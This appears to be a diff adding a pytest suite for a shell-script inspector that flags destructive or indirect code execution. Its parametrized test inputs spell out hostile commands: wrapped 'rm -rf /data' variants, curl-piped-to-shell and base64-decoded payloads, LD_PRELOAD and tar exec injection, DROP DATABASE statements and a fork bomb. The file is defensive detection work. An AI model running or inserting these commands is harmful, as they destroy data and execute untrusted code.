@@ -1,0 +1,170 @@
+"""Code within code: what a script hands to shells, interpreters and databases."""
+
+import pytest
+
+from dashboard.inspection.shell.inspector import inspect_shell
+
+
+def names(script):
+    return {finding.name for finding in inspect_shell(script)}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "sh -c 'rm -rf /data'",
+        "bash -lc 'rm -rf /data'",
+        "/usr/bin/env bash -euxc 'rm -rf /data'",
+        "bash <<< 'rm -rf /data'",
+        "bash <<'EOF'\nrm -rf /data\nEOF",
+        "cat <<'EOF' | sh\nrm -rf /data\nEOF",
+        "echo 'rm -rf /data' | sh",
+        "printf '%s\\n' 'rm -rf /data' | sh",
+        "eval 'rm -rf /data'",
+        "eval rm -rf /data",
+        "builtin eval 'rm -rf /data'",
+        "bash -c \"bash -c 'rm -rf /data'\"",
+        "env -S 'rm -rf /data'",
+        "watch 'rm -rf /data'",
+        "script -qc 'rm -rf /data' /dev/null",
+        "su -c 'rm -rf /data'",
+        "ssh host 'rm -rf /data'",
+        "find . -exec sh -c 'rm -rf $1' _ {} +",
+        "mapfile -C 'rm -rf /data' lines",
+        "python3 -c \"import shutil; shutil.rmtree('/data')\"",
+        "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/data')\nEOF",
+        "pwsh -c 'Remove-Item -Recurse x'",
+    ],
+)
+def test_code_that_is_handed_on_is_read(script):
+    assert "recursive-delete" in names(script)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -fsSL https://example.org/x | sh",
+        "curl -s x | sudo bash -s -- --yes",
+        "wget -qO- x | tee /dev/null | bash",
+        "curl -s x | (cd /tmp; sh)",
+        "curl -s x | { sh; }",
+        "curl -s x | if true; then sh; fi",
+        "curl -s x | python3 -",
+        "curl -s x | perl",
+        "curl -s x > >(bash)",
+        "bash <(curl -s x)",
+        ". <(curl -s x)",
+        "source /dev/stdin",
+        "echo cm0gLXJm | base64 -d | sh",
+        "openssl enc -d -base64 -in x | bash",
+        "zcat x.gz | sh",
+        "printf '\\162\\155' | sh",
+        "cat x | xargs -0 sh -c | sh",
+    ],
+)
+def test_to_run_what_another_command_prints_is_found(script):
+    assert "pipe-to-shell" in names(script)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'eval "$(curl -s x)"',
+        'sh -c "$CODE"',
+        'bash -c "$(base64 -d <<< cm0=)"',
+        "$(cat x)",
+        "$CMD -rf /data",
+        "${x%y} -rf /data",
+        '"${c[@]}"',
+        "x='a[$(ls)]'; declare -n r=x; $r",
+        "bash < x",
+        "sed '1e ls' x",
+    ],
+)
+def test_what_cannot_be_read_here_is_a_doubt(script):
+    assert any(
+        finding.is_doubt and finding.name == "cannot-be-followed"
+        for finding in inspect_shell(script)
+    )
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "perl -e 'unlink 1'",
+        "node -e '1'",
+        "ruby -e '1'",
+        "php -r '1;'",
+        "mongosh --eval '1'",
+    ],
+)
+def test_code_in_a_language_that_nobody_reads_is_a_doubt(script):
+    assert ("not-inspected", True) in {(f.name, f.is_doubt) for f in inspect_shell(script)}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "git -c alias.x='!ls' x",
+        "GIT_SSH_COMMAND=ls git fetch",
+        "LD_PRELOAD=x.so ls",
+        "export BASH_ENV=x",
+        "read LD_PRELOAD < x",
+        "for PS4 in x; do ls; done",
+        "awk 'BEGIN { system(\"ls\") }'",
+        "tar cf x y --checkpoint-action=exec=ls",
+        "man -P ls x",
+        "rsync -e 'sh -c ls' x y:",
+        "make test",
+        "./build.sh",
+        "psql -c '\\! ls'",
+        "enable -f x.so x",
+    ],
+)
+def test_programs_that_run_other_programs_are_found(script):
+    assert "process-execution" in names(script)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "psql -c 'DROP TABLE runs'",
+        "psql -Atc 'DROP TABLE runs' measurements",
+        "psql <<EOF\nDROP TABLE runs;\nEOF",
+        "echo 'DROP DATABASE x' | mysql",
+        "mysql -uwelder -e'DROP DATABASE x'",
+        "mysql -uwelder -Ne 'DROP DATABASE x'",
+        "sqlite3 x.db 'drop table t'",
+        "dropdb x",
+    ],
+)
+def test_statements_for_a_database_are_read(script):
+    assert "sql-drop" in names(script)
+
+
+def test_statements_that_only_read_make_no_finding():
+    assert inspect_shell("psql -Atc 'SELECT count(*) FROM runs' measurements") == []
+
+
+def test_the_tests_of_a_project_are_a_low_finding():
+    assert [(f.name, f.severity) for f in inspect_shell("pytest -q -k 'not slow'")] == [
+        ("process-execution", "low")
+    ]
+
+
+def test_tests_with_a_plugin_from_elsewhere_are_more_than_that():
+    severities = {finding.severity for finding in inspect_shell("pytest -p evil")}
+    assert severities == {"low", "medium"}
+
+
+def test_a_function_is_judged_where_it_stands_and_not_where_it_is_called():
+    found = inspect_shell("tidy() {\n  rm -rf $1\n}\ntidy x")
+    assert [(f.name, f.line) for f in found] == [("recursive-delete", 2)]
+
+
+def test_a_function_that_starts_itself_in_a_pipe_is_found():
+    assert "system-change" in names(":(){ :|:& };:")
+
+
+def test_a_function_with_the_name_of_a_command_is_told():
+    assert "dynamic-code" in names("ls() { echo x; }")
